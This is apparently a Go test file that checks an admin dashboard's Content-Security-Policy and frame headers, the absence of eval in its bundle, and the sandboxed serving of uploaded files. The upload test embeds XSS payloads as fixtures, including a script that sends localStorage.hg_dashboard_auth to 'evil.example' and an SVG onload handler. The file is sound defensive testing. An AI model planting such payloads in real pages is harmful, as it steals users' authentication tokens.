package apis_test

import (
	"io/fs"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"

	adminui "github.com/hatchgrid/hatchgrid/admin-ui"
	"github.com/hatchgrid/hatchgrid/core/coretest"
)

// cspDirectives splits a Content-Security-Policy into its directives.
func cspDirectives(t *testing.T, header string) map[string]string {
	t.Helper()
	if header == "" {
		t.Fatal("no Content-Security-Policy")
	}
	out := map[string]string{}
	for d := range strings.SplitSeq(header, ";") {
		name, value, _ := strings.Cut(strings.TrimSpace(d), " ")
		if _, dup := out[name]; dup {
			t.Fatalf("directive %s twice in %q", name, header)
		}
		out[name] = value
	}
	return out
}

var cspNonce = regexp.MustCompile(`^'nonce-([A-Za-z0-9+/_=-]{22,})' 'strict-dynamic' 'report-sample'$`)

// assertDashboardHeaders checks the dashboard's CSP and frame headers on
// one response and returns the CSP's nonce.
func assertDashboardHeaders(t *testing.T, rec *httptest.ResponseRecorder) string {
	t.Helper()
	h := rec.Header()
	csp := cspDirectives(t, h.Get("Content-Security-Policy"))
	m := cspNonce.FindStringSubmatch(csp["script-src"])
	if m == nil {
		t.Fatalf("script-src = %q, want a nonce and 'strict-dynamic' only", csp["script-src"])
	}
	nonce := m[1]
	want := map[string]string{
		"default-src":               "'none'",
		"style-src":                 "'nonce-" + nonce + "' 'report-sample'",
		"img-src":                   "'self' data: blob:",
		"connect-src":               "'self'",
		"object-src":                "'none'",
		"base-uri":                  "'none'",
		"form-action":               "'none'",
		"frame-ancestors":           "'none'",
		"require-trusted-types-for": "'script'",
		"trusted-types":             "svelte-trusted-html dompurify",
	}
	for k, v := range want {
		if csp[k] != v {
			t.Errorf("CSP %s = %q, want %q", k, csp[k], v)
		}
	}
	for k, v := range csp {
		if strings.Contains(v, "unsafe-") || strings.Contains(v, "*") || strings.Contains(v, "http:") || strings.Contains(v, "https:") {
			t.Errorf("CSP %s = %q allows too much", k, v)
		}
	}
	for k, v := range map[string]string{
		"X-Frame-Options":            "DENY",
		"X-Content-Type-Options":     "nosniff",
		"Referrer-Policy":            "same-origin",
		"Cross-Origin-Opener-Policy": "same-origin",
	} {
		if got := h.Get(k); got != v {
			t.Errorf("%s = %q, want %q", k, got, v)
		}
	}
	return nonce
}

func TestDashboardSecurityHeaders(t *testing.T) {
	t.Parallel()
	e := newEnv(t, coretest.NewApp(t))
	scripts, err := fs.Glob(adminui.FS(), "assets/*.js")
	if err != nil || len(scripts) == 0 {
		t.Fatalf("no built dashboard script in admin-ui/dist: %v", err)
	}
	var nonces []string
	index := func(t *testing.T, rec *httptest.ResponseRecorder) {
		nonce := assertDashboardHeaders(t, rec)
		nonces = append(nonces, nonce)
		body := rec.Body.String()
		if strings.Contains(body, "HG_CSP_NONCE") {
			t.Error("the nonce placeholder is left in index.html")
		}
		// Every script is the bundle, loaded with this response's nonce:
		// no inline script, no handler attributes.
		tags := regexp.MustCompile(`<script\b[^>]*>`).FindAllString(body, -1)
		if len(tags) == 0 {
			t.Fatalf("no script tag in %s", body)
		}
		for _, tag := range tags {
			if !strings.Contains(tag, ` src="/_/assets/`) || !strings.Contains(tag, `nonce="`+nonce+`"`) {
				t.Errorf("script tag %s lacks src or this response's nonce", tag)
			}
		}
		if regexp.MustCompile(`<script\b[^>]*>[^<]+</script>`).MatchString(body) || regexp.MustCompile(`(?i)\son[a-z]+=`).MatchString(body) {
			t.Errorf("inline script in %s", body)
		}
	}
	headersOnly := func(t *testing.T, rec *httptest.ResponseRecorder) { assertDashboardHeaders(t, rec) }
	e.run(t, []scenario{
		{name: "index", path: "/_/", wantStatus: 200, check: index},
		{name: "index again", path: "/_/", wantStatus: 200, check: index},
		{name: "client-side route", path: "/_/collections/posts", wantStatus: 200, check: index},
		{name: "head", method: "HEAD", path: "/_/", wantStatus: 200, check: headersOnly},
		{name: "asset", path: "/_/" + scripts[0], wantStatus: 200, check: headersOnly},
		{name: "missing asset", path: "/_/assets/nope.js", wantStatus: 404, check: headersOnly},
		{name: "redirect", path: "/_", wantStatus: 301, check: headersOnly},
	})
	if len(nonces) != 3 || nonces[0] == nonces[1] || nonces[1] == nonces[2] {
		t.Errorf("nonces %q: want a fresh one per response", nonces)
	}
}

// TestDashboardBundleNeedsNoEval checks that the built dashboard can run
// under a CSP without 'unsafe-eval': none of its scripts calls eval or
// builds functions from strings.
func TestDashboardBundleNeedsNoEval(t *testing.T) {
	t.Parallel()
	scripts, err := fs.Glob(adminui.FS(), "assets/*.js")
	if err != nil || len(scripts) == 0 {
		t.Fatalf("no built dashboard script in admin-ui/dist: %v", err)
	}
	evalish := regexp.MustCompile(`\beval\(|\bnew Function\(|\bFunction\(["'\x60]`)
	for _, name := range scripts {
		b, err := fs.ReadFile(adminui.FS(), name)
		if err != nil {
			t.Fatal(err)
		}
		if loc := evalish.FindIndex(b); loc != nil {
			t.Errorf("%s evaluates strings: %q", name, b[max(0, loc[0]-60):min(len(b), loc[1]+60)])
		}
	}
}

// TestFileUploadsCannotScriptTheOrigin uploads, as a guest, files a
// browser would run (HTML, SVG, XHTML, JavaScript) and checks that the
// server answers them as attachments under a sandboxing CSP: opened from a
// dashboard link, they get an opaque origin and cannot read its storage.
func TestFileUploadsCannotScriptTheOrigin(t *testing.T) {
	t.Parallel()
	e := newFilesEnv(t)
	const script = `<script>fetch('//evil.example/?'+localStorage.hg_dashboard_auth)</script>`
	uploads := []part{
		{"@jsonPayload", "", `{"title":"xss"}`},
		{"pics", "page.html", "<!doctype html><html><body>" + script + "</body></html>"},
		{"pics", "image.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">` + script + `</svg>`},
		{"pics", "page.xhtml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">` + script + `</html>`},
	}
	var rec map[string]any
	e.run(t, []scenario{multipartScenario(t, scenario{name: "guest uploads", method: "POST",
		path: "/api/collections/media/records", wantStatus: 200, check: record(&rec)}, uploads...)})
	id, pics := rec["id"].(string), names(rec["pics"])
	if len(pics) != 3 {
		t.Fatalf("pics = %v", pics)
	}
	var cases []scenario
	for _, name := range pics {
		for _, q := range []string{"", "?download=0", "?thumb=100x100"} {
			cases = append(cases, scenario{name: name + q, path: "/api/files/media/" + id + "/" + name + q, wantStatus: 200,
				check: func(t *testing.T, r *httptest.ResponseRecorder) {
					h := r.Header()
					if cd := h.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") {
						t.Errorf("Content-Disposition = %q, want an attachment", cd)
					}
					csp := cspDirectives(t, h.Get("Content-Security-Policy"))
					if _, ok := csp["sandbox"]; !ok || csp["sandbox"] != "" {
						t.Errorf("CSP %q: want sandbox without allowances", h.Get("Content-Security-Policy"))
					}
					if csp["default-src"] != "'none'" {
						t.Errorf("CSP default-src = %q, want 'none'", csp["default-src"])
					}
					if h.Get("X-Content-Type-Options") != "nosniff" {
						t.Error("no X-Content-Type-Options: nosniff")
					}
				}})
		}
	}
	e.run(t, cases)
}
